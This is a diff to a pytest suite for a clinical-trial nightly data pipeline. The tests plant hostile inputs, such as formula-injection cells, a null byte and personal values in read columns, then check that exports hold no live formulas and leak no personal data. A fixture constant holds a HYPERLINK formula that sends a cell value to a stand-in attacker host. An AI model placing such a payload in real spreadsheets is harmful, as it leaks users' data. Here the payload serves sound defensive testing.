@@ -19,6 +19,7 @@ from support import generated_night, read_table, write_manifest
 from validation.cells import FORMULA_TRIGGERS
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+SHORT_FORMULA = '=HYPERLINK(A1,"x")'     # short enough to be quoted in a reason (aclf.disclosure)
 
 
 def _personal(settings, night: str) -> set[str]:
@@ -43,8 +44,20 @@ def _plant_second_night(settings, night: str, next_night: str) -> dict[str, str]
     cells2 = text[2].split("\t")
     cells2[7] = "Sodium\x00X"
     cells3 = text[3].split("\t")
-    cells3[7] = FORMULA              # a test named by a formula: its reason quotes it into the exports
+    cells3[7] = SHORT_FORMULA        # a test named by a formula: its reason quotes it into the exports
     text[1], text[2], text[3] = "\t".join(cells), "\t".join(cells2), "\t".join(cells3)
+    # 11. a row's own name or phone typed into a column that is read (unit, result, visit, test, and a
+    # repeated record's result): each is a finding or a quarantine whose reason does not quote it
+    planted = {}
+    for row, (column, personal) in enumerate([(9, 1), (8, 2), (3, 1), (7, 2), (8, 1)], start=4):
+        cells = text[row].split("\t")
+        cells[column] = cells[personal]
+        planted[cells[personal]] = row
+        text[row] = "\t".join(cells)
+    repeat = text[9].split("\t")
+    repeat[8] = repeat[2]
+    planted[repeat[2]] = 9
+    text.insert(10, "\t".join(repeat))
     names["site04"] = f"SITE04_{next_night}.txt"
     (land / "site04" / names["site04"]).write_text("\n".join(text), encoding="utf-8")
     # 2/8. IWRS header-only: held as truncated
@@ -76,7 +89,7 @@ def _plant_second_night(settings, night: str, next_night: str) -> dict[str, str]
     for name in ("site01", "site04", "iwrs", "site02"):
         write_manifest(land / name / names[name])
     write_manifest(folder)
-    return names
+    return names, planted
 
 
 @pytest.fixture(scope="module")
@@ -86,10 +99,10 @@ def hostile(tmp_path_factory):
         night = summary.nights[0].replace("-", "")
         next_night = (pd.Timestamp(summary.nights[0]) + pd.Timedelta(days=1)).strftime("%Y%m%d")
         personal = _personal(settings, night)
-        names = _plant_second_night(settings, night, next_night)
+        names, planted = _plant_second_night(settings, night, next_night)
         result = run_nightly(settings, instance=dg.DagsterInstance.ephemeral())
         engine = make_engine(url)
-        yield settings, result, names, personal, engine
+        yield settings, result, names, personal | set(planted), engine
         engine.dispose()
 
 
@@ -128,6 +141,11 @@ def test_nothing_personal_and_nothing_outside_reaches_any_output(hostile):
         texts.append(json.dumps([[c.value for c in row] for row in sheet.iter_rows()], ensure_ascii=False, default=str))
     leaked = [v for v in personal if any(v in t for t in texts)]
     assert not leaked
+    # every uncompressed file written (datasets as XPT and Dataset-JSON, define.xml, Data Docs, listings)
+    plain = [p.read_bytes() for p in settings.output.rglob("*")
+             if p.suffix in {".xpt", ".json", ".xml", ".html", ".csv", ".txt"}]
+    assert len(plain) > 20
+    assert not [v for v in personal if any(v.encode() in b for b in plain)]
     key = next((settings.landing / "iwrs_key").glob("RANDKEY_*.csv"))
     assert not archive_path(settings.archive, sha256_of(key)).exists()
 
@@ -137,7 +155,7 @@ def test_no_exported_cell_is_a_live_formula(hostile):
     with (settings.output / "findings" / "findings.csv").open(encoding="utf-8-sig", newline="") as fh:
         cells = [c for row in csv.reader(fh) for c in row]
     assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
-    assert any(FORMULA in c for c in cells)                                 # the planted one reached it
+    assert any(SHORT_FORMULA in c for c in cells)                           # the planted one reached it
     listing = openpyxl.load_workbook(settings.output / "findings" / "site04_queries.xlsx").active
     values = [c for row in listing.iter_rows() for c in row]
     assert not [c for c in values if c.data_type == "f"]
@@ -148,3 +166,25 @@ def test_a_partial_onset_date_is_no_finding(hostile):
     settings, *_ = hostile
     findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
     assert not findings["message"].str.contains("ACLF_ONSET_DATE").any()
+
+
+def test_a_personal_value_typed_in_a_read_column_is_held_and_never_quoted(hostile):
+    """A site's own name or phone in the unit, result, visit or test column, or as a repeated record's
+    result: a unit or result is held as `personal_value` (so it reaches no dataset), a visit label is
+    queried, an unknown test held; each reason names file, row and column, never the value, and
+    the quarantined row keeps such a cell withheld."""
+    settings, _, names, _, engine = hostile
+    not_shown = "(not shown: it has the form of a name or an identifier)"
+    transfers = read_table(engine, "transfer").set_index("name")
+    held = read_table(engine, "quarantine")
+    held = held[held["transfer_id"] == transfers.loc[names["site04"], "id"]]
+    personal = held[held["rule"] == "personal_value"]
+    assert {(5, "UNITS"), (6, "VALUE"), (9, "VALUE"), (11, "VALUE")} <= set(zip(personal["row_number"],
+                                                                                personal["column_name"]))
+    assert personal["reason"].str.contains(not_shown, regex=False).all()
+    assert personal["data"].str.contains(not_shown, regex=False).all()
+    [test] = held[held["row_number"] == 8].itertuples()
+    assert test.rule == "unknown_test" and not_shown in test.reason and not_shown in test.data
+    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
+    visit = findings[(findings["file"] == names["site04"]) & (findings["rule"] == "visit_unknown")]
+    assert visit["message"].str.contains(not_shown, regex=False).any()
